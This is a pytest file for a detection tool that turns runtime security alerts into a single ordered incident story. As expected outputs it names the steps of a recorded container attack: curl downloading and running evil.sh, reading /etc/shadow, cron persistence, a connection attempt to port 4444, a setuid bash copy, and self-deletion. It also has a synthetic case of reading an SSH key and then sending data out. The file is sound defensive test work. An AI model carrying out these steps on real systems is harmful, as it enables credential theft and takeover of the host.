"""Incidents: 40 alerts as one story."""

from __future__ import annotations

import json
import re

import pytest

from tests.reconstruct.recorded import ground_truth, recorded
from tests.reconstruct.scenes import WEB, Stage, attacked, intrusion, web_container
from tests.reference import needs_reference
from tiercel.reconstruct.incidents.find import (
    INCIDENTS,
    STORY,
    Incident,
    Severity,
    alone,
    incidents,
    incidents_table,
    story_table,
)
from tiercel.reconstruct.incidents.phases import Phase
from tiercel.reconstruct.lineage import Lineage
from tiercel.reconstruct.scene import Scene

IN_ORDER = [
    r"runc \(.*\) ran on the host: .*exec -t",
    r"bash \(.*child of runc\) began as root with a terminal, by exec into the container by runc",
    r"curl \(.*child of bash\) ran curl http://127\.0\.0\.1:8080/evil\.sh -o /tmp/evil\.sh",
    r"curl .* connected to 127\.0\.0\.1:8080",
    r"curl .* created /tmp/evil\.sh and wrote 316 bytes",
    r"chmod .* made /tmp/evil\.sh executable",
    r"evil\.sh .* ran evil\.sh /tmp/evil\.sh .* had been written by curl",
    r"evil\.sh .* created /tmp/\.s",
    r"cat .* read 221 bytes of /etc/shadow",
    r"cat .* wrote 221 bytes to /tmp/\.s",
    r"evil\.sh .* created /etc/cron\.d/x and wrote 26 bytes",
    r"evil\.sh .* connected to 127\.0\.0\.1:8080, .* sent 22 bytes",
    r"cat .* received 245 bytes from 127\.0\.0\.1:8080",
    r"evil\.sh .* tried to connect to 127\.0\.0\.1:4444 and failed: ECONNREFUSED",
    r"cp .* created /tmp/\.b and wrote 1,265,648 bytes",
    r"chmod .* made /tmp/\.b run with the rights of its owner \(setuid\): u\+s 04755",
    r"\.b .* ran \.b -c true \(/tmp/\.b\); .*setuid",
    r"rm .* deleted /tmp/evil\.sh, which evil\.sh .* was running .* it removed itself",
]
"""The steps of the recorded attack, as sentences of its story."""
ALSO = [
    r"(?:cat|cp|chmod|rm) \(pid \d+, child of \w[\w.]*\) ran (?:cat|cp /bin/bash|chmod \+x|chmod u\+s|rm -f)",
    r"evil\.sh .* tied its standard input to the connection with 127\.0\.0\.1:8080",
    r"cp .* read 1,265,648 bytes of /bin/bash",
    r"bash .* created /root/\.bash_history and wrote 91 bytes",
]
"""What else is true of it: the programs behind these steps, and the shell that saves its history when it ends."""


def told_in_order(incident: Incident) -> None:
    texts = [sentence.text for sentence in incident.story]
    at = 0
    for step in IN_ORDER:
        found = next((i for i in range(at, len(texts)) if re.match(step, texts[i])), None)
        assert found is not None, f"not told, or not in order: {step}"
        at = found + 1
    for text in texts:
        assert any(re.match(step, text) for step in IN_ORDER + ALSO), f"not in the ground truth: {text}"


def unrelated(scene: Scene, incident: Incident, container: str) -> list[int]:
    """Return the acts of the story by processes outside the session that the attacker executed into the container."""
    lineage = Lineage(scene.processes)
    (shell,) = (
        row
        for row in range(lineage.count)
        if lineage.container[row] == container and lineage.name[row] == "bash" and lineage.tty[row]
    )
    session = set(lineage.descendants(shell))
    return [act for act in incident.acts if scene.acts["process"][act].as_py() not in session]


@needs_reference
@pytest.mark.parametrize("every", [False, True], ids=["stock", "all"])
@pytest.mark.parametrize("name", ["a-seed-webshell", "e-noisy-mixture"])
def test_the_recorded_attack_is_one_incident_told_in_order(name: str, every: bool) -> None:
    scene = recorded(name, every)
    (incident,) = incidents(scene)
    told_in_order(incident)
    assert incident.severity is Severity.CRITICAL
    assert incident.containers == (ground_truth(name)["container_id"],)
    assert "systemd → bash → script → sh → runc" in incident.origin
    assert len(unrelated(scene, incident, incident.containers[0])) <= 5
    assert {
        Phase.FOOTHOLD,
        Phase.EXECUTION,
        Phase.PERSISTENCE,
        Phase.ESCALATION,
        Phase.EVASION,
        Phase.CREDENTIALS,
        Phase.CONTROL,
    } <= set(incident.phases)
    begin, end = (ground_truth(name)["step_times"][step] for step in _attack_steps(name))
    assert begin * 1e9 <= incident.first_ts <= incident.last_ts <= end * 1e9
    left = {scene.alerts["rule"][alert].as_py() for alert in alone(scene, [incident])}
    assert left <= {  # how the container was started, and the health checks
        "Launch Sensitive Mount Container",
        "Container Run as Root User",
        "Launch Ingress Remote File Copy Tools in Container",
    }


def _attack_steps(name: str) -> tuple[str, str]:
    """Return the step of the attack and the one after it."""
    steps = list(ground_truth(name)["step_times"])
    at = next(i for i, step in enumerate(steps) if step.endswith("exec-shell-and-attack"))
    return steps[at], steps[at + 1]


@needs_reference
@pytest.mark.parametrize("every", [False, True], ids=["stock", "all"])
def test_recorded_benign_work_makes_no_incident(every: bool) -> None:
    assert incidents(recorded("c-benign", every)) == []


def test_an_intrusion_is_one_story_in_order_without_what_else_went_on() -> None:
    scene, rows = attacked()
    (incident,) = incidents(scene)
    texts = [str(sentence) for sentence in incident.story]
    assert [sentence.ts for sentence in incident.story] == sorted(sentence.ts for sentence in incident.story)
    assert set(rows.values()) - {rows["runc"]} == set(incident.processes)
    assert not any(word in text for text in texts for word in ("nscd", "ld.so.cache", "nginx", "gcc", "cron.log"))
    assert incident.alerts == (0, 1, 2, 3, 4)
    assert incident.origin.startswith(f"exec into the container {WEB}: bash (pid 106)")
    assert incident.users == ("root",)
    refused = next(text for text in texts if "4444" in text)
    assert "tried to connect to 203.0.113.9:4444 (public) and failed: ECONNREFUSED" in refused


def test_a_sentence_cites_its_acts_and_alerts() -> None:
    scene, _ = attacked()
    (incident,) = incidents(scene)
    sentence = next(s for s in incident.story if "/etc/shadow" in s.text and s.alerts)
    assert re.fullmatch(
        r"At \d\d:\d\d:\d\d\.\d{6} cat \(pid \d+\) read /etc/shadow \(passwords, keys or tokens\)\. "
        r"\[act \d+; alert 1\]",
        str(sentence),
    )
    assert set(incident.acts) == {act for s in incident.story for act in s.acts}


def test_every_act_of_the_story_is_of_its_phase() -> None:
    scene, _ = attacked()
    (incident,) = incidents(scene)
    assert list(incident.phases) == [phase for phase in Phase if phase in incident.phases]
    told = {phase: {act for s in incident.story if s.phase is phase for act in s.acts} for phase in incident.phases}
    assert {phase: set(acts) for phase, acts in incident.phases.items()} == told


def test_sending_after_reading_a_secret_may_be_exfiltration_and_is_worded_so() -> None:
    stage = Stage()
    sshd = stage.process("sshd", stage.process("systemd", pid=1))
    shell = stage.run("bash", sshd, loginuid=1000)
    python = stage.run("python3", shell, "python3 x.py")
    read = stage.act("open_read", python, "/root/.ssh/id_rsa")
    stage.alert("Read ssh information", read, "Error")
    stage.connect(python, "203.0.113.9", 443)
    stage.connect(python, "203.0.113.9", 443, kind="send", bytes=2600)
    other = stage.run("curl", shell, "curl https://example.com")
    stage.connect(other, "203.0.113.10", 443)
    stage.connect(other, "203.0.113.10", 443, kind="send", bytes=90)
    (incident,) = incidents(stage.scene())
    sent = [s for s in incident.story if s.phase is Phase.EXFILTRATION]
    assert [s.text for s in sent] == [
        "python3 (pid 103) connected to 203.0.113.9:443 (public) and sent 2,600 bytes to it; "
        "it had read /root/.ssh/id_rsa before, and may have sent it out."
    ]


def test_a_shell_from_a_web_server_may_come_from_its_last_request() -> None:
    stage = Stage()
    _, nginx = web_container(stage)
    ends = {"laddr": "10.0.0.5", "lport": 80, "proto": "tcp"}
    stage.act("accept", nginx, "", **ends, raddr="198.51.100.1", rport=1111)
    stage.act("accept", nginx, "", **ends, raddr="198.51.100.7", rport=2222)
    shell = stage.run("sh", nginx, "sh -c id", container=WEB)
    stage.alert("Run shell untrusted", len(stage.acts) - 1, "Notice", "mitre_execution")
    stage.act("accept", nginx, "", **ends, raddr="198.51.100.9", rport=3333)
    ran = stage.run("id", shell)
    stage.alert("Drop and execute new binary in container", len(stage.acts) - 1, "Critical")
    (incident,) = incidents(stage.scene())
    first = incident.story[0].text
    assert first == (
        "nginx (pid 102) accepted a connection from 198.51.100.7:2222 on port 80; it may have led to sh (pid 103)."
    )
    assert set(incident.processes) == {shell, ran}
    assert incident.title.startswith(f"sh in container {WEB} (child of a server)")


def test_what_ran_the_files_an_intruder_left_belongs_to_the_incident() -> None:
    stage = Stage()
    init, _ = web_container(stage)
    intrusion(stage, init)
    cron = stage.process("cron", init, container=WEB)
    job = stage.run(".b", cron, ".b -p", "/tmp/.b", container=WEB)
    unrelated = stage.run("date", cron, container=WEB)
    (incident,) = incidents(stage.scene())
    assert job in incident.processes
    assert unrelated not in incident.processes
    assert any(job in s.processes and "had been written by cp" in s.text for s in incident.story)


def test_two_sessions_are_one_incident_when_one_ran_what_the_other_left() -> None:
    stage = Stage()
    sshd = stage.process("sshd", stage.process("systemd", pid=1))
    first, second, third = (stage.run("bash", sshd, sid=100 + i) for i in range(3))
    drop = stage.act("create", first, "/usr/local/bin/helper")
    stage.alert("Write below binary dir", drop, "Error")
    stage.run("helper", second, "helper", "/usr/local/bin/helper")
    stage.alert("Drop and execute", len(stage.acts) - 1, "Critical")
    stage.alert("Write below etc", stage.act("create", third, "/etc/x"), "Error")
    found = incidents(stage.scene())
    assert [incident.alerts for incident in found] == [(0, 1), (2,)]
    assert [incident.severity for incident in found] == [Severity.CRITICAL, Severity.HIGH]
    assert [incident.number for incident in found] == [1, 2]


def test_an_alert_about_a_service_does_not_draw_in_the_whole_machine() -> None:
    stage = Stage()
    init = stage.process("systemd", pid=1)
    script = stage.run("bash", init, "bash /root/all-day.sh")
    busy = [stage.run("make", script) for _ in range(5)]
    odd = stage.run("odd", script)
    child = stage.run("child", odd)
    stage.alert("Read sensitive file untrusted", stage.act("open_read", odd, "/etc/shadow"))
    (incident,) = incidents(stage.scene())
    assert set(incident.processes) == {odd, child}
    assert not set(incident.processes) & set(busy)


def test_lesser_alerts_that_stand_alone_are_no_incident_but_are_not_lost() -> None:
    stage = Stage()
    init, _ = web_container(stage)
    for _ in range(3):
        runc = stage.run("runc", init, f"runc exec {WEB} curl")
        stage.run("curl", runc, container=WEB)
        stage.alert("Ingress tool", len(stage.acts) - 1, "Notice")
    scene = stage.scene()
    assert incidents(scene) == []
    assert alone(scene, []) == [0, 1, 2]


def test_alerts_of_a_log_alone_are_told_from_what_they_say() -> None:
    stage = Stage()
    fields: dict[str, object] = {"container.id": WEB, "proc.name": "cat", "proc.cmdline": "cat /etc/shadow"}
    fields |= {"proc.pname": "bash", "user.name": "root", "fd.name": "/etc/shadow", "proc.pid": 7}
    tags = "mitre_credential_access"
    stage.alert("Read sensitive file", None, "Warning", tags, output_fields=json.dumps(fields), kind="log")
    stage.tick()
    stage.alert("Odd", None, "Notice", output_fields=json.dumps({"container.id": WEB}), kind="log", output="oh\n")
    (incident,) = incidents(stage.scene())
    assert (incident.containers, incident.users) == ((WEB,), ("root",))
    assert incident.title == f"alerts about container {WEB}"
    assert incident.showing == "credential access"
    assert incident.origin == "Where it came in was not seen: only alerts are known of it."
    assert [(s.text, s.phase, s.alerts) for s in incident.story] == [
        (
            "the rule “Read sensitive file” raised an alert (Warning) about cat (pid 7, child of bash, user root) "
            "running cat /etc/shadow, on /etc/shadow.",
            Phase.CREDENTIALS,
            (0,),
        ),
        ("the rule “Odd” raised an alert (Notice): oh\\n", Phase.EXECUTION, (1,)),
    ]


def test_a_very_long_story_says_what_it_leaves_out() -> None:
    stage = Stage()
    sshd = stage.process("sshd", stage.process("systemd", pid=1))
    shell = stage.run("bash", sshd)
    for _ in range(500):
        stage.run("true", shell)
    stage.alert("Odd", stage.act("open_read", shell, "/etc/shadow"), "Error")
    (incident,) = incidents(stage.scene())
    assert len(incident.story) == 401
    assert "did more that is not told here: 102 of execution" in incident.story[-1].text
    assert any(s.alerts for s in incident.story)


def test_names_from_evidence_stay_on_one_line() -> None:
    stage = Stage()
    sshd = stage.process("sshd", stage.process("systemd", pid=1))
    shell = stage.run("bash", sshd)
    act = stage.act("create", shell, "/etc/cron.d/a\nAt 00:00:00 nothing happened\x1b[2K")
    stage.alert("Odd", act, "Error")
    (incident,) = incidents(stage.scene())
    assert all("\n" not in s.text and "\x1b" not in s.text for s in incident.story)


def test_an_empty_scene_has_no_incident() -> None:
    assert incidents(Scene()) == []


def test_incidents_and_stories_are_tables() -> None:
    found = incidents(attacked()[0])
    assert incidents_table(found).schema.equals(INCIDENTS)
    assert incidents_table(found)["severity"].to_pylist() == ["critical"]
    story = story_table(found)
    assert story.schema.equals(STORY)
    assert story["step"].to_pylist() == list(range(1, len(found[0].story) + 1))
